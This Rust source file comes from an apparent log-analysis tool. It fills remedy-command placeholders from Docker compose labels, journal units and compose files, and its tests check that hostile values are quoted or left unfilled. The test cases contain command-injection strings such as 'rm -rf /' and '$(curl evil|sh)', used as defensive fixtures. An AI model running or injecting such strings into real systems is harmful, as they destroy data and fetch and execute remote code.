//! Values for a remedy's `{placeholders}` that the log line itself does not hold: the live
//! context of the line's source (a container's compose project, service, compose file, image,
//! volumes and networks; a journal line's unit), then the files given (a compose file in the
//! current directory or beside the log).
//!
//! A hit's own captures come first, then the line's source, then the files
//! ([`Contexts::for_writer`] builds the last two, [`crate::explain::fill_command_in`] puts the
//! captures in front). Every value is quoted by the same code as a capture: a compose label is
//! text whoever started the container chose, as hostile as any log line.

use std::{
    collections::{BTreeMap, HashMap},
    io::Read,
    path::{Path, PathBuf},
    sync::Mutex,
};

use serde_yaml_ng::Value;

/// Placeholder values, in order of precedence: the first value of a name is the one used.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FillContext {
    values: Vec<(String, String)>,
}

impl FillContext {
    /// Set `name` unless it already has a value (an earlier source wins). Empty values are
    /// no values.
    pub fn set(&mut self, name: &str, value: &str) {
        if !value.is_empty() && self.get(name).is_none() {
            self.values.push((name.to_string(), value.to_string()));
        }
    }

    pub fn get(&self, name: &str) -> Option<&str> {
        self.values
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }

    /// Every `(name, value)`, first source first.
    pub fn values(&self) -> &[(String, String)] {
        &self.values
    }

    pub fn is_empty(&self) -> bool {
        self.values.is_empty()
    }

    /// This context, with `fallback`'s values for the names it has none for.
    pub fn or(mut self, fallback: &FillContext) -> FillContext {
        for (name, value) in &fallback.values {
            self.set(name, value);
        }
        self
    }

    /// A container's context, from what `docker inspect` says of it.
    pub fn from_container(facts: &ContainerFacts) -> FillContext {
        let mut context = FillContext::default();
        context.set("container", &facts.name);
        let label = |key: &str| facts.labels.get(key).map(String::as_str).unwrap_or("");
        context.set("service", label("com.docker.compose.service"));
        context.set("project", label("com.docker.compose.project"));
        // Compose writes every `-f` file, comma-separated; the first is the main one.
        let config_files = label("com.docker.compose.project.config_files");
        context.set("compose_file", config_files.split(',').next().unwrap_or(""));
        context.set(
            "project_dir",
            label("com.docker.compose.project.working_dir"),
        );
        context.set("image", &facts.image);
        if let Some(volume) = facts.volumes.first() {
            context.set("volume", volume);
        }
        if let Some(network) = facts.networks.first() {
            context.set("network", network);
        }
        context
    }

    /// The context the files give: the first compose file found in `cwd`, else beside one of
    /// `logs`.
    pub fn from_files(cwd: Option<&Path>, logs: &[PathBuf]) -> FillContext {
        let dirs = cwd
            .map(Path::to_path_buf)
            .into_iter()
            .chain(logs.iter().filter_map(|log| {
                let parent = log.parent()?;
                Some(if parent.as_os_str().is_empty() {
                    PathBuf::from(".")
                } else {
                    parent.to_path_buf()
                })
            }));
        for dir in dirs {
            if let Some(path) = find_compose_file(&dir)
                && let Ok(compose) = ComposeFile::read(&path)
            {
                return compose.context();
            }
        }
        FillContext::default()
    }
}

/// What `docker inspect` says of a container that a remedy can use.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ContainerFacts {
    /// Its name, without Docker's leading `/`.
    pub name: String,
    pub image: String,
    pub labels: HashMap<String, String>,
    /// Named volumes it mounts (not bind mounts).
    pub volumes: Vec<String>,
    pub networks: Vec<String>,
}

impl ContainerFacts {
    fn label(&self, key: &str) -> Option<&str> {
        self.labels.get(key).map(String::as_str)
    }
}

#[derive(Debug, thiserror::Error)]
pub enum ContextError {
    #[error("{path}: {source}")]
    Read {
        path: String,
        source: std::io::Error,
    },
    #[error("{path}: not a compose file (a regular .yml or .yaml file)")]
    NotAFile { path: String },
    #[error("{path}: {source}")]
    Yaml {
        path: String,
        source: serde_yaml_ng::Error,
    },
    #[error("{path}: no `services` mapping")]
    NoServices { path: String },
}

/// A compose file's names: enough to fill `{project}`, `{compose_file}` and which service is
/// the database, the application and the web proxy.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ComposeFile {
    pub path: PathBuf,
    /// Its top-level `name:`, else the directory's name as compose normalises it.
    pub project: Option<String>,
    pub services: Vec<ComposeService>,
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ComposeService {
    pub name: String,
    pub image: String,
    /// `command` and `entrypoint`, joined.
    pub command: String,
    pub container_name: Option<String>,
    pub depends_on: Vec<String>,
    pub builds: bool,
}

/// The most of a compose file read: a real one is a few kilobytes.
const COMPOSE_MAX: u64 = 1 << 20;

/// The names compose itself looks for, in its order.
const COMPOSE_NAMES: [&str; 4] = [
    "compose.yaml",
    "compose.yml",
    "docker-compose.yaml",
    "docker-compose.yml",
];

/// The compose file compose would use in `dir`, if there is one.
pub fn find_compose_file(dir: &Path) -> Option<PathBuf> {
    COMPOSE_NAMES
        .iter()
        .map(|name| dir.join(name))
        .find(|path| path.is_file())
}

/// Images of databases, application servers' commands and web proxies, as substrings of the
/// image or command.
const DATABASES: [&str; 3] = ["mysql", "mariadb", "postgres"];
const WEB_PROXIES: [&str; 4] = ["nginx", "caddy", "traefik", "httpd"];
const APP_SERVERS: [&str; 9] = [
    "gunicorn", "uwsgi", "uvicorn", "daphne", "php-fpm", "puma", "unicorn", "node", "java",
];

impl ComposeFile {
    /// Read and parse the compose file at `path`: a regular `.yml`/`.yaml` file outside
    /// `/proc`, `/sys` and `/dev` once links are followed, at most 1 MiB of it. The path may
    /// come from a container's label, which whoever started it chose: `/proc/kmsg` would block
    /// the reader and eat the kernel's messages.
    pub fn read(path: &Path) -> Result<ComposeFile, ContextError> {
        let shown = path.display().to_string();
        let real = std::fs::canonicalize(path).map_err(|source| ContextError::Read {
            path: shown.clone(),
            source,
        })?;
        let meta = std::fs::metadata(&real).map_err(|source| ContextError::Read {
            path: shown.clone(),
            source,
        })?;
        let yaml = real.extension().is_some_and(|e| e == "yml" || e == "yaml");
        let special = ["/proc", "/sys", "/dev"]
            .iter()
            .any(|dir| real.starts_with(dir));
        if !meta.is_file() || !yaml || special {
            return Err(ContextError::NotAFile { path: shown });
        }
        let mut text = String::new();
        std::fs::File::open(path)
            .and_then(|f| f.take(COMPOSE_MAX).read_to_string(&mut text))
            .map_err(|source| ContextError::Read {
                path: shown.clone(),
                source,
            })?;
        let absolute = std::path::absolute(path).unwrap_or_else(|_| path.to_path_buf());
        ComposeFile::parse(&absolute, &text)
    }

    /// Parse compose YAML read from `path`.
    pub fn parse(path: &Path, text: &str) -> Result<ComposeFile, ContextError> {
        let shown = path.display().to_string();
        let doc: Value = serde_yaml_ng::from_str(text).map_err(|source| ContextError::Yaml {
            path: shown.clone(),
            source,
        })?;
        let Some(services) = doc.get("services").and_then(Value::as_mapping) else {
            return Err(ContextError::NoServices { path: shown });
        };
        let words = |value: Option<&Value>| -> String {
            match value {
                Some(Value::String(s)) => s.clone(),
                Some(Value::Sequence(items)) => items
                    .iter()
                    .filter_map(Value::as_str)
                    .collect::<Vec<_>>()
                    .join(" "),
                _ => String::new(),
            }
        };
        let services = services
            .iter()
            .filter_map(|(name, body)| {
                let name = name.as_str()?.to_string();
                let depends_on = match body.get("depends_on") {
                    Some(Value::Sequence(items)) => items
                        .iter()
                        .filter_map(|v| v.as_str().map(str::to_string))
                        .collect(),
                    Some(Value::Mapping(map)) => map
                        .keys()
                        .filter_map(|k| k.as_str().map(str::to_string))
                        .collect(),
                    _ => Vec::new(),
                };
                Some(ComposeService {
                    name,
                    image: words(body.get("image")),
                    command: format!(
                        "{} {}",
                        words(body.get("entrypoint")),
                        words(body.get("command"))
                    )
                    .trim()
                    .to_string(),
                    container_name: body
                        .get("container_name")
                        .and_then(Value::as_str)
                        .map(str::to_string),
                    depends_on,
                    builds: body.get("build").is_some(),
                })
            })
            .collect();
        let project = doc
            .get("name")
            .and_then(Value::as_str)
            .map(str::to_string)
            .or_else(|| {
                let dir = path.parent()?.file_name()?.to_str()?;
                let normalised = compose_project_name(dir);
                (!normalised.is_empty()).then_some(normalised)
            });
        Ok(ComposeFile {
            path: path.to_path_buf(),
            project,
            services,
        })
    }

    fn role(
        &self,
        words: &[&str],
        of: impl Fn(&ComposeService) -> &str,
    ) -> Option<&ComposeService> {
        self.services.iter().find(|s| {
            let text = of(s).to_ascii_lowercase();
            words.iter().any(|w| text.contains(w))
        })
    }

    /// The database: the first service whose image is MySQL, MariaDB or PostgreSQL.
    pub fn db_service(&self) -> Option<&ComposeService> {
        self.role(&DATABASES, |s| &s.image)
    }

    /// The web proxy: the first service whose image is nginx (or Caddy, Traefik, Apache).
    pub fn web_service(&self) -> Option<&ComposeService> {
        self.role(&WEB_PROXIES, |s| &s.image)
    }

    /// The application behind the proxy: a service (not the database or the proxy) that runs
    /// an application server, else the one the proxy depends on, else one built from source.
    pub fn app_service(&self) -> Option<&ComposeService> {
        let db = self.db_service().map(|s| s.name.as_str());
        let web = self.web_service();
        let others: Vec<&ComposeService> = self
            .services
            .iter()
            .filter(|s| {
                Some(s.name.as_str()) != db && Some(s.name.as_str()) != web.map(|w| w.name.as_str())
            })
            .collect();
        let runs_app_server = |s: &&&ComposeService| {
            let text = format!("{} {}", s.command, s.image).to_ascii_lowercase();
            APP_SERVERS.iter().any(|w| text.contains(w))
        };
        others
            .iter()
            .find(runs_app_server)
            .or_else(|| {
                let web = web?;
                others.iter().find(|s| web.depends_on.contains(&s.name))
            })
            .or_else(|| others.iter().find(|s| s.builds))
            .copied()
    }

    /// The placeholders this file fills.
    pub fn context(&self) -> FillContext {
        let mut context = FillContext::default();
        context.set("compose_file", &self.path.display().to_string());
        if let Some(project) = &self.project {
            context.set("project", project);
        }
        if let Some(dir) = self.path.parent() {
            context.set("project_dir", &dir.display().to_string());
        }
        if let Some(db) = self.db_service() {
            context.set("db_service", &db.name);
            if let Some(name) = &db.container_name {
                context.set("db_container", name);
            }
        }
        if let Some(app) = self.app_service() {
            context.set("app_service", &app.name);
        }
        if let Some(web) = self.web_service() {
            context.set("web_service", &web.name);
        }
        context
    }
}

/// A directory's name as compose makes a project name of it: lower case, only `a-z0-9_-`.
fn compose_project_name(dir: &str) -> String {
    dir.to_ascii_lowercase()
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-'))
        .collect::<String>()
        .trim_start_matches(['_', '-'])
        .to_string()
}

/// The live context of every source seen so far, by the name a line's writer goes by (a
/// container's name, a journal line's identifier), and the files' context under them all.
/// Sources record into it as they learn (the Docker source on inspect); printers and the
/// viewer look up, without reading anything (a compose file is read when its container is
/// recorded, not at every frame).
#[derive(Debug, Default)]
pub struct Contexts {
    containers: Mutex<BTreeMap<String, Recorded>>,
    units: Mutex<HashMap<String, String>>,
    files: FillContext,
    /// Bumped at every change: a context looked up is good while this stays the same.
    generation: std::sync::atomic::AtomicU64,
}

/// A container as recorded: its facts, and what its compose file says of the project.
#[derive(Debug, Clone)]
struct Recorded {
    facts: ContainerFacts,
    roles: FillContext,
}

impl Contexts {
    /// Contexts over what the files give.
    pub fn with_files(files: FillContext) -> Contexts {
        Contexts {
            files,
            ..Contexts::default()
        }
    }

    /// Record a container, reading its compose file (the first of its `config_files` label,
    /// when that is a readable file here) for which service is the database, the application
    /// and the web proxy.
    pub fn record_container(&self, facts: ContainerFacts) {
        let roles = facts
            .label("com.docker.compose.project.config_files")
            .and_then(|files| files.split(',').next())
            .and_then(|file| ComposeFile::read(Path::new(file)).ok())
            .map(|compose| compose.context())
            .unwrap_or_default();
        if let Ok(mut containers) = self.containers.lock() {
            containers.insert(facts.name.clone(), Recorded { facts, roles });
            self.bump();
        }
    }

    fn bump(&self) {
        self.generation
            .fetch_add(1, std::sync::atomic::Ordering::Release);
    }

    /// Changes so far: a printer keeps a looked-up context while this stays the same.
    pub fn generation(&self) -> u64 {
        self.generation.load(std::sync::atomic::Ordering::Acquire)
    }

    /// A journal writer (`nginx`, `sshd`) runs as `unit`.
    pub fn record_unit(&self, writer: &str, unit: &str) {
        if let Ok(mut units) = self.units.lock()
            && !units.contains_key(writer)
        {
            units.insert(writer.to_string(), unit.to_string());
            self.bump();
        }
    }

    /// The context of a line written by `writer`: its container's (with its compose file's
    /// roles, and the database's container among its project's), or its unit; then the
    /// files'.
    pub fn for_writer(&self, writer: Option<&str>) -> FillContext {
        let mut context = FillContext::default();
        if let Some(writer) = writer {
            if let Ok(containers) = self.containers.lock()
                && let Some(recorded) = containers.get(writer)
            {
                let facts = &recorded.facts;
                context = FillContext::from_container(facts);
                // The database's container: the one of this project running the service the
                // compose file says is the database.
                if let (Some(project), Some(db)) = (
                    facts.label("com.docker.compose.project"),
                    recorded.roles.get("db_service"),
                ) && let Some(db_container) = containers.values().find(|c| {
                    c.facts.label("com.docker.compose.project") == Some(project)
                        && c.facts.label("com.docker.compose.service") == Some(db)
                }) {
                    context.set("db_container", &db_container.facts.name);
                }
                context = context.or(&recorded.roles);
            }
            if let Some(unit) = self.units.lock().ok().and_then(|u| u.get(writer).cloned()) {
                context.set("unit", &unit);
            }
        }
        context.or(&self.files)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::explain::{UnfilledReason, fill_command_in};

    const SHOP: &str = "name: shop\nservices:\n  web:\n    image: nginx:1.25\n    depends_on: [api]\n  api:\n    build: .\n    command: gunicorn app:app -b 0.0.0.0:8000\n  db:\n    image: mariadb:11\n    container_name: shop-db\n";

    #[test]
    fn a_compose_file_names_its_project_and_roles() {
        let compose = ComposeFile::parse(Path::new("/srv/shop/compose.yaml"), SHOP).unwrap();
        let context = compose.context();
        assert_eq!(context.get("project"), Some("shop"));
        assert_eq!(context.get("compose_file"), Some("/srv/shop/compose.yaml"));
        assert_eq!(context.get("db_service"), Some("db"));
        assert_eq!(context.get("db_container"), Some("shop-db"));
        assert_eq!(context.get("app_service"), Some("api"));
        assert_eq!(context.get("web_service"), Some("web"));
        // Without `name:`, the directory as compose normalises it; without an application
        // server's command, the service the proxy depends on.
        let text = "services:\n  proxy:\n    image: nginx\n    depends_on:\n      backend: {condition: service_started}\n  backend:\n    image: example/app\n  pg:\n    image: postgres:16\n";
        let compose =
            ComposeFile::parse(Path::new("/srv/My.Shop_2/docker-compose.yml"), text).unwrap();
        let context = compose.context();
        assert_eq!(context.get("project"), Some("myshop_2"));
        assert_eq!(context.get("app_service"), Some("backend"));
        assert_eq!(context.get("db_service"), Some("pg"));
        assert_eq!(context.get("db_container"), None);
        // Not compose at all.
        assert!(ComposeFile::parse(Path::new("x.yml"), "a: [1, 2").is_err());
        assert!(ComposeFile::parse(Path::new("x.yml"), "version: '3'\n").is_err());
    }

    #[test]
    fn the_compose_file_is_found_in_the_directory_or_beside_the_log() {
        let dir = tempfile::tempdir().unwrap();
        let logs = dir.path().join("logs");
        std::fs::create_dir(&logs).unwrap();
        assert!(FillContext::from_files(Some(&logs), &[logs.join("app.log")]).is_empty());
        std::fs::write(logs.join("compose.yaml"), SHOP).unwrap();
        let beside = FillContext::from_files(None, &[logs.join("app.log")]);
        assert_eq!(beside.get("project"), Some("shop"));
        std::fs::write(
            dir.path().join("docker-compose.yml"),
            "services:\n  x:\n    image: mysql\n",
        )
        .unwrap();
        let here = FillContext::from_files(Some(dir.path()), &[logs.join("app.log")]);
        assert_eq!(here.get("db_service"), Some("x"));
        // A directory where a file should be is no compose file; nor is what a hostile label
        // could point at, directly or through a link.
        assert!(ComposeFile::read(dir.path()).is_err());
        for special in ["/proc/kmsg", "/dev/zero", "/proc/self/status"] {
            assert!(matches!(
                ComposeFile::read(Path::new(special)),
                Err(ContextError::NotAFile { .. } | ContextError::Read { .. })
            ));
        }
        let link = dir.path().join("evil.yaml");
        std::os::unix::fs::symlink("/dev/zero", &link).unwrap();
        assert!(matches!(
            ComposeFile::read(&link),
            Err(ContextError::NotAFile { .. })
        ));
    }

    fn shop_api(service: &str) -> ContainerFacts {
        ContainerFacts {
            name: "shop-api-1".into(),
            image: "shop-api".into(),
            labels: HashMap::from([
                ("com.docker.compose.project".to_string(), "shop".to_string()),
                (
                    "com.docker.compose.service".to_string(),
                    service.to_string(),
                ),
                (
                    "com.docker.compose.project.config_files".to_string(),
                    "/srv/shop/compose.yaml,/srv/shop/compose.override.yaml".to_string(),
                ),
                (
                    "com.docker.compose.project.working_dir".to_string(),
                    "/srv/shop".to_string(),
                ),
            ]),
            volumes: vec!["shop_data".into()],
            networks: vec!["shop_default".into()],
        }
    }

    #[test]
    fn captures_come_first_then_the_container_then_the_files() {
        let contexts = Contexts::with_files(
            ComposeFile::parse(Path::new("/home/u/other/compose.yaml"), SHOP)
                .unwrap()
                .context(),
        );
        contexts.record_container(shop_api("api"));
        let context = contexts.for_writer(Some("shop-api-1"));
        let cmd = "docker compose -f {compose_file} -p {project} logs {service} {container} {volume} {web_service}";
        // The container's labels beat the files; the files fill what the labels cannot.
        assert_eq!(
            fill_command_in(cmd, &[], &context).text,
            "docker compose -f /srv/shop/compose.yaml -p shop logs api shop-api-1 shop_data web"
        );
        // A capture beats both.
        let captures = vec![("container".to_string(), "from-the-log".to_string())];
        assert_eq!(
            fill_command_in("docker logs {container}", &captures, &context).text,
            "docker logs from-the-log"
        );
        // Another writer gets the files alone; none of them, `<name>`.
        let other = contexts.for_writer(Some("kernel"));
        assert_eq!(
            fill_command_in("docker logs {service} {container}", &[], &other).text,
            "docker logs <service> <container>"
        );
        assert_eq!(other.get("project"), Some("shop"));
        // A journal writer's unit.
        contexts.record_unit("sshd", "ssh.service");
        assert_eq!(
            fill_command_in(
                "journalctl -u {unit}",
                &[],
                &contexts.for_writer(Some("sshd"))
            )
            .text,
            "journalctl -u ssh.service"
        );
    }

    #[test]
    fn the_database_container_is_the_projects_container_of_the_database_service() {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("compose.yaml");
        std::fs::write(&file, SHOP.replace("    container_name: shop-db\n", "")).unwrap();
        let contexts = Contexts::default();
        let container = |name: &str, project: &str, service: &str| {
            let mut facts = shop_api(service);
            facts.name = name.to_string();
            facts.labels.insert(
                "com.docker.compose.project".to_string(),
                project.to_string(),
            );
            facts.labels.insert(
                "com.docker.compose.project.config_files".to_string(),
                file.display().to_string(),
            );
            facts
        };
        contexts.record_container(container("shop-api-1", "shop", "api"));
        // Another project's database of the same service name is not this one's.
        contexts.record_container(container("other-db-1", "other", "db"));
        let context = contexts.for_writer(Some("shop-api-1"));
        assert_eq!(context.get("db_service"), Some("db"));
        assert_eq!(context.get("db_container"), None);
        contexts.record_container(container("shop-db-1", "shop", "db"));
        let context = contexts.for_writer(Some("shop-api-1"));
        assert_eq!(context.get("db_container"), Some("shop-db-1"));
        assert_eq!(context.get("web_service"), Some("web"));
        assert_eq!(context.get("compose_file"), Some(file.to_str().unwrap()));
    }

    #[test]
    fn hostile_label_values_are_quoted_or_left_unfilled_and_marked() {
        let contexts = Contexts::default();
        for (service, want) in [
            (
                "api'; rm -rf / #",
                r"docker compose logs 'api'\''; rm -rf / #'",
            ),
            ("$(curl evil|sh)", "docker compose logs '$(curl evil|sh)'"),
            ("`id`", "docker compose logs '`id`'"),
        ] {
            contexts.record_container(shop_api(service));
            let context = contexts.for_writer(Some("shop-api-1"));
            let filled = fill_command_in("docker compose logs {service}", &[], &context);
            assert_eq!(filled.text, want);
            assert!(filled.is_complete());
            // What was pasted runs the catalogue's command with one literal argument.
            let words = shell_words::split(&filled.text).unwrap();
            assert_eq!(words.last().unwrap(), service);
        }
        for (service, reason) in [
            ("api\nrm -rf /", UnfilledReason::Unprintable),
            ("api\u{202e}", UnfilledReason::Unprintable),
            ("--rm", UnfilledReason::LooksLikeOption),
        ] {
            contexts.record_container(shop_api(service));
            let context = contexts.for_writer(Some("shop-api-1"));
            let filled = fill_command_in("docker compose logs {service}", &[], &context);
            assert_eq!(filled.text, "docker compose logs <service>", "{service:?}");
            assert_eq!(filled.unfilled[0].reason, reason);
        }
        // Inside double quotes, as a capture is.
        contexts.record_container(shop_api("a\"$(id)"));
        let context = contexts.for_writer(Some("shop-api-1"));
        assert_eq!(
            fill_command_in("echo \"service {service}\"", &[], &context).text,
            "echo \"service \"'a\"$(id)'\"\""
        );
    }
}
